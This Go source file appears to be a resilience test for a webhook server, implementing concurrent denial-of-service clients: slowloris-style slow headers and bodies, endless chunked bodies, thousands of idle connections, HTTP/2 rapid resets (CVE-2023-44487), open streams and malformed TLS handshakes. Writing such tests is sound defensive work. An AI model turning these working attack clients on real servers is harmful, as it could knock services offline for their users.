// SPDX-License-Identifier: Apache-2.0

package proof

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An attack is one kind of hostile client. Several clients run at once, and each repeats the attack after
// a pause.
type attack struct {
	name    string
	clients int
	pause   time.Duration
	once    func(context.Context, *victim) error
}

// A victim is the server under attack.
type victim struct {
	addr string
	body []byte // body of a valid call
}

const callPath = "/mutate/" + MutatingName

// attacks are all attacks. Fewer than MaxInFlight clients send slow bodies, so that honest calls are admitted.
var attacks = []attack{
	{"slow headers", 100, 5 * time.Second, func(ctx context.Context, v *victim) error {
		return v.overTLS(ctx, func(conn net.Conn) error {
			return slowly(ctx, conn, "POST "+callPath+" HTTP/1.1\r\nHost: victim\r\nContent-Type: application/json\r\nX-Slow: "+strings.Repeat("z", 1000))
		})
	}},
	{"slow bodies", 40, 5 * time.Second, func(ctx context.Context, v *victim) error {
		return v.overTLS(ctx, func(conn net.Conn) error {
			head := fmt.Sprintf("POST %s?timeout=30s HTTP/1.1\r\nHost: victim\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n", callPath, len(v.body))
			if _, err := io.WriteString(conn, head); err != nil {
				return err
			}
			return slowly(ctx, conn, string(v.body))
		})
	}},
	{"endless bodies", 8, 200 * time.Millisecond, func(ctx context.Context, v *victim) error {
		return v.overTLS(ctx, func(conn net.Conn) error {
			if _, err := io.WriteString(conn, "POST "+callPath+" HTTP/1.1\r\nHost: victim\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"); err != nil {
				return err
			}
			chunk := []byte("8000\r\n" + strings.Repeat(" ", 0x8000) + "\r\n")
			return paced(ctx, 10*time.Millisecond, func() error {
				_, err := conn.Write(chunk)
				return err
			})
		})
	}},
	{"bodies that break off", 4, 50 * time.Millisecond, func(ctx context.Context, v *victim) error {
		return v.overTLS(ctx, func(conn net.Conn) error {
			_, err := fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: victim\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", callPath, len(v.body), v.body[:len(v.body)/2])
			return err
		})
	}},
	{"idle connections", 2000, 10 * time.Second, func(ctx context.Context, v *victim) error {
		return v.overTCP(ctx, read)
	}},
	{"idle connections after a handshake", 100, 5 * time.Second, func(ctx context.Context, v *victim) error {
		return v.overTLS(ctx, read)
	}},
	{"h2 rapid resets", 2, 100 * time.Millisecond, func(ctx context.Context, v *victim) error {
		return v.overTLS(ctx, func(conn net.Conn) error { return resets(ctx, conn) }, "h2")
	}},
	{"h2 streams left open", 4, 500 * time.Millisecond, func(ctx context.Context, v *victim) error {
		return v.overTLS(ctx, func(conn net.Conn) error { return openStreams(ctx, conn) }, "h2")
	}},
	{"garbage instead of TLS", 8, 50 * time.Millisecond, func(ctx context.Context, v *victim) error {
		return v.overTCP(ctx, func(conn net.Conn) error {
			garbage := make([]byte, 512)
			for i := range garbage {
				garbage[i] = byte(rand.Uint32()) //nolint:gosec // need not be secure
			}
			_, err := conn.Write(garbage)
			return errors.Join(err, read(conn))
		})
	}},
	{"HTTP instead of TLS", 4, 50 * time.Millisecond, func(ctx context.Context, v *victim) error {
		return v.overTCP(ctx, func(conn net.Conn) error {
			_, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: victim\r\n\r\n")
			return errors.Join(err, read(conn))
		})
	}},
	{"handshakes that stop halfway", 50, 5 * time.Second, func(ctx context.Context, v *victim) error {
		return v.overTCP(ctx, func(conn net.Conn) error {
			// The length in the record is longer than the record.
			_, err := conn.Write([]byte{0x16, 3, 1, 0x3f, 0xff, 1, 0, 0x3f, 0xfb, 3, 3})
			return errors.Join(err, read(conn))
		})
	}},
}

// run repeats the attack with all clients until ctx is done. It counts the attacks that got a connection.
func (a attack) run(ctx context.Context, v *victim, times *atomic.Int64) {
	var all sync.WaitGroup
	defer all.Wait()
	for i := range a.clients {
		all.Go(func() {
			first := time.NewTimer(min(a.pause, 5*time.Second) * time.Duration(i) / time.Duration(a.clients))
			defer first.Stop()
			select {
			case <-first.C:
			case <-ctx.Done():
				return
			}
			_ = paced(ctx, a.pause, func() error {
				if err := a.once(ctx, v); err == nil || !errors.Is(err, errNoConnection) {
					times.Add(1)
				}
				return nil
			})
		})
	}
}

// paced calls do at a regular interval until do fails or ctx is done.
func paced(ctx context.Context, every time.Duration, do func() error) error {
	ticker := time.NewTicker(every)
	defer ticker.Stop()
	for {
		if err := do(); err != nil {
			return err
		}
		select {
		case <-ticker.C:
		case <-ctx.Done():
			return ctx.Err()
		}
	}
}

var errNoConnection = errors.New("no connection")

func (v *victim) overTCP(ctx context.Context, do func(net.Conn) error) error {
	conn, err := (&net.Dialer{Timeout: 5 * time.Second}).DialContext(ctx, "tcp", v.addr)
	if err != nil {
		return fmt.Errorf("%w: %w", errNoConnection, err)
	}
	defer func() { _ = conn.Close() }()
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	return do(conn)
}

func (v *victim) overTLS(ctx context.Context, do func(net.Conn) error, protocols ...string) error {
	return v.overTCP(ctx, func(conn net.Conn) error {
		secured := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: protocols})
		if err := secured.HandshakeContext(ctx); err != nil {
			return fmt.Errorf("%w: %w", errNoConnection, err)
		}
		return do(secured)
	})
}

// slowly writes one byte every 200 ms, and reads nothing.
func slowly(ctx context.Context, conn net.Conn, text string) error {
	rest := []byte(text)
	return paced(ctx, 200*time.Millisecond, func() error {
		if len(rest) == 0 {
			return io.EOF
		}
		_, err := conn.Write(rest[:1])
		rest = rest[1:]
		return err
	})
}

// read reads until the server closes the connection.
func read(conn net.Conn) error {
	_, err := io.Copy(io.Discard, conn)
	return err
}

// resets opens HTTP/2 streams and resets each at once, as in CVE-2023-44487.
func resets(ctx context.Context, conn net.Conn) error {
	framer, headers, err := startH2(conn)
	if err != nil {
		return err
	}
	stream := uint32(1)
	return paced(ctx, 10*time.Millisecond, func() error {
		for range 5 {
			err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: headers, EndHeaders: true})
			if err == nil {
				err = framer.WriteRSTStream(stream, http2.ErrCodeCancel)
			}
			if err != nil {
				return err
			}
			stream += 2
		}
		return nil
	})
}

// openStreams begins five calls without sending their bodies.
func openStreams(ctx context.Context, conn net.Conn) error {
	framer, headers, err := startH2(conn)
	if err != nil {
		return err
	}
	for stream := uint32(1); stream < 10; stream += 2 {
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: headers, EndHeaders: true}); err != nil {
			return err
		}
	}
	return paced(ctx, 500*time.Millisecond, func() error { return framer.WritePing(false, [8]byte{}) })
}

// startH2 starts HTTP/2 on a connection. It returns a framer and the encoded headers of a call. It discards
// all that the server sends.
func startH2(conn net.Conn) (*http2.Framer, []byte, error) {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, nil, err
	}
	framer := http2.NewFramer(conn, nil)
	if err := framer.WriteSettings(); err != nil {
		return nil, nil, err
	}
	go func() { _ = read(conn) }()
	var headers bytes.Buffer
	encoder := hpack.NewEncoder(&headers)
	for _, field := range [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":authority", "victim"}, {":path", callPath + "?timeout=30s"}, {"content-type", "application/json"},
	} {
		if err := encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1]}); err != nil {
			return nil, nil, err
		}
	}
	return framer, headers.Bytes(), nil
}
